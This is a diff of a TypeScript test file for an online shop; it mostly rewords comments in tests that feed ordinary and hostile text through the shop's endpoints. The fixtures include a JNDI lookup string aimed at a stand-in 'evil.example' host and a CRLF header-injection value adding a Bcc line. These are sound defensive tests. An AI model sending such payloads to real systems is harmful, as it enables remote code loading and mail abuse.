@@ -8,7 +8,7 @@ const shop = await startShop()
 const [asha, seller, rice] = [await aShopper(shop), await aSeller(shop), await aProduct(shop)]
 let count = 0
 
-/** What people, and people with other plans, write into a shop. Each is text and nothing but text. */
+/** Ordinary and hostile input; each is plain text for the shop. */
 const texts: Record<string, string> = {
   'composed letters': 'Café',
   'the same letters in parts': 'Cafe\u0301',
@@ -37,7 +37,6 @@ const texts: Record<string, string> = {
   'a lookup': '\u0024{jndi:ldap://evil.example/x}',
 }
 
-/** What only a field of several lines takes. */
 const lines: Record<string, string> = {
   'two lines': 'one\ntwo',
   'a line of a mail': 'Asha\r\nBcc: all@haat.example',
@@ -77,7 +76,7 @@ describe('text', () => {
     await shopper.placeCodOrder({ items: [{ product: product._id, quantity: 1 }], address: address._id })
     const [order] = (await shopper.listMyOrders()).orders
     expect(order).toMatchObject({ address: typed, items: [{ product: { name: text, weight: text } }] })
-    // In the list a seller is not told its steps, nor how a shopper may still pay it.
+    // A list of orders has neither its history nor its open payment.
     const { history: _steps, online: _payment, ...seen } = order!
     expect((await seller.listOrders()).orders[0]).toMatchObject(seen)
   })
@@ -111,7 +110,7 @@ describe('text', () => {
   test('with half a character or with NUL is refused by every endpoint, and never an internal error', async () => {
     const address = anAddress()
     const registration = { name: 'Asha', email: 'half@example.com', password: 'mustard-fields-in-bloom' }
-    // As raw JSON, for that is how they come.
+    // As raw JSON, because JSON.stringify would escape it.
     for (const bad of ['x\\u0000y', '\\u0000', 'x\\ud83d', '\\udc4dx', '\\ud83d\\ud83d']) {
       const tries: [string, string, object][] = [
         ...Object.keys(address)
